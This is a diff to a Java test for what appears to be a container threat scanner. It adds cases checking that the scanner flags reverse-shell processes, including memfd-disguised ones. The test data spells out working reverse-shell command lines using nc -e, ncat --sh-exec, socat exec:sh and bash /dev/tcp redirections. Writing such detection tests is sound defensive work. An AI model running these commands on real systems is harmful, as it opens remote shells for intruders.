@@ -131,7 +131,7 @@ class NativeLookTest {
 
     @Test
     void netcatAndSocatExecOptionsAndDevTcpRedirections() throws IOException {
-        cgroup("", "coi-n", List.of(1, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42), Map.of());
+        cgroup("", "coi-n", List.of(1, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44), Map.of());
         process(1, "/sbin/init", "/sbin/init");
         process(30, "/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", REMOTE, "9001");
         process(31, "/usr/bin/ncat", "ncat", "--sh-exec", "bash", REMOTE, "9001");
@@ -146,12 +146,16 @@ class NativeLookTest {
         process(40, "/usr/bin/bash", "bash", "-c", "cat < /dev/tcp"); // no trailing slash
         process(41, "/usr/bin/nc", "nc", "--lua-exec", "x.lua", "/dev/tcp/1/2"); // exec first (else-if)
         process(42, "/usr/bin/nc", "nc", REMOTE, "80");
+        // a memfd names no program: argv[0] does (read at its exec, a command incus starts may still show memfd:liblxc)
+        process(43, "/memfd:liblxc (deleted)", "bash", "-c", "sleep 300; exec 3<>/dev/tcp/127.0.0.1/9");
+        process(44, "memfd:x", "/usr/bin/socat", "tcp:x:1", "exec:sh");
         Found found = compare(new Target("coi-n"));
         assertThat(found.threats()).extracting(Threat::title).containsExactly("reverse shell: nc.traditional executing a program for a connection",
                 "reverse shell: ncat executing a program for a connection", "reverse shell: nc.openbsd executing a program for a connection",
                 "reverse shell: socat executing a program for a connection", "reverse shell: socat executing a program for a connection",
                 "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "reverse shell: python3 redirecting to /dev/tcp or /dev/udp",
-                "reverse shell: evil redirecting to /dev/tcp or /dev/udp", "reverse shell: nc executing a program for a connection");
+                "reverse shell: evil redirecting to /dev/tcp or /dev/udp", "reverse shell: nc executing a program for a connection",
+                "reverse shell: bash redirecting to /dev/tcp or /dev/udp", "reverse shell: socat executing a program for a connection");
     }
 
     @Test
